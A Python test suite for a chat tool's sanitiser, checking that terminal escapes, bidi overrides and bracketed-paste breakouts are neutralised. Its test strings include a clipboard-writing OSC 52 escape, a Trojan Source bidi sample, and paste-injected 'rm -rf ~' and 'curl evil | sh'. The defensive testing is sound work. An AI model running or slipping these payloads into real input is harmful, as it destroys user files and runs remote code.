from rtchat.sanitize import clipboard_safe, json_line_safe, strict_json, terminal_safe


def test_escape_sequences_are_inert():
    hostile = "a\x1b]52;c;ZXZpbA==\x07b\x1b[2Jc\x9b31md\x1b]0;title\x07\r\n\tok"
    safe = terminal_safe(hostile)
    assert "\x1b" not in safe and "\x07" not in safe and "\x9b" not in safe and "\r" not in safe
    assert safe.endswith("\n\tok") and "␛" in safe


def test_plain_text_untouched():
    text = "héllo **world**\n\tcode → ✓"
    assert terminal_safe(text) == text


def test_json_line_escapes_c1_losslessly():
    import json

    line = json_line_safe(json.dumps({"t": "x\x9by\u2028"}, ensure_ascii=False))
    assert "\x9b" not in line and json.loads(line) == {"t": "x\x9by\u2028"}


BIDI_CONTROLS = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]


def test_bidi_controls_are_named_visibly_everywhere_they_are_shown():
    for control in BIDI_CONTROLS:
        shown = terminal_safe(f"a{control}b")
        assert control not in shown and shown == f"a[U+{ord(control):04X}]b"
    trojan = 'access_level != "user\u202e \u2066// Check if admin\u2069 \u2066" {'
    assert not any(c in terminal_safe(trojan) for c in BIDI_CONTROLS)


def test_rtl_text_marks_and_emoji_sequences_keep_working():
    text = "שלום עולם, مرحبا\u200f (1)\u200e ؜x 👩\u200d💻 👨\u200d👩\u200d👧"
    assert terminal_safe(text) == text
    assert clipboard_safe(text) == text


def test_clipboard_cannot_end_a_bracketed_paste():
    attack = "harmless\x1b[201~rm -rf ~\n\x9b201~curl evil | sh\r\n\x07\x00\x1b]52;c;ZXZpbA==\x07"
    copied = clipboard_safe(attack)
    assert not [ch for ch in copied if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F]
    assert "\x1b[201~" not in copied and "\x9b201~" not in copied
    assert copied.startswith("harmless␛[201~rm -rf ~\n") and "curl evil | sh\n" in copied


def test_clipboard_keeps_newlines_tabs_and_neutralises_bidi():
    assert clipboard_safe("def f():\n\treturn 1\n") == "def f():\n\treturn 1\n"
    assert clipboard_safe("x\u202ey\u2067z") == "x[U+202E]y[U+2067]z"


def _refuse_constant(name):
    raise ValueError(f"not RFC 8259: {name}")


def test_strict_json_has_no_nan_or_infinity_and_escapes_controls():
    import json

    text = strict_json({"a": float("nan"), "b": [float("inf"), -float("inf"), 1.5], "t": "x\u202e\x9by ü"}, indent=2)
    data = json.loads(text, parse_constant=_refuse_constant)
    assert data == {"a": None, "b": [None, None, 1.5], "t": "x\u202e\x9by ü"}
    assert "\u202e" not in text and "\x9b" not in text and "ü" in text
